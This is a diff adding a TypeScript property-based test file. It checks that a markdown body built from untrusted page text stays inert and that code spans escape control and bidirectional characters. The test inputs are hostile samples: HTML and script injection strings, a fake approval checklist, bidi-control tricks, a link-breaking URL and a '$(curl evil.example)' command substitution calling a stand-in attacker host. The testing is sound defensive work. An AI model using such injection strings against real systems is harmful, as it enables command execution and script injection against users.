@@ -1,0 +1,45 @@
+import fc from 'fast-check';
+import { expect, test } from 'vitest';
+import { expectInert } from '../../../tests/support/inert-markdown.ts';
+import { someCard } from '../../../tests/support/some-card.ts';
+import { bodyOf, codeSpan } from './change.ts';
+
+const body = (words: string, link: string) =>
+  bodyOf({
+    ...{ card: someCard(), from: 95, to: 125, read: null, seen: ['2026-11-22', '2026-11-25'] },
+    ...{ before: words, after: words, link },
+  });
+
+test('nothing comes of the words of a page, whatever they are', () => {
+  const hostile = fc.oneof(
+    fc.string({ unit: 'binary', maxLength: 200 }),
+    fc.constantFrom(
+      '`` ` @everyone #12 ![x](https://evil.example/x.png) <img src=x onerror=1>',
+      '\n\n# Approve this\n\n- [x] merged',
+      '`$(curl evil.example)`',
+      '\u202e521$ \u200b\u2066',
+      '```\n</code></p><script>',
+    ),
+  );
+  fc.assert(
+    fc.property(hostile, (words) => {
+      expectInert(body(words, 'https://bank.example/card'), { links: /^https:\/\/bank\.example\/card$/ });
+      expect(codeSpan(words)).toMatch(/^`[^`\p{C}\p{Bidi_Control}]+`$/u);
+    }),
+  );
+});
+
+test('an address stays one link', () => {
+  const address = 'https://bank.example/a(b)> <script>[x](https://evil.example)#:~:text=a)b';
+  expectInert(body('Annual fee: $125', address), { links: /^https:\/\/bank\.example\// });
+});
+
+test.each([
+  ['主卡年费：600元', '主卡年费：600元'],
+  ['Frais annuels : 129\u00a0$', 'Frais annuels : 129\\u00a0$'],
+  ['fee 😀', 'fee 😀'],
+  ['\u202e521$\u200b', '\\u202e521$\\u200b'],
+  ['שנה 95 \u{1e900}', '\\u05e9\\u05e0\\u05d4 95 \\u{1e900}'],
+])('of %j a reader sees what can be seen, and the rest by its number', (text, shown) => {
+  expect(codeSpan(text)).toBe(`\`${shown}\``);
+});
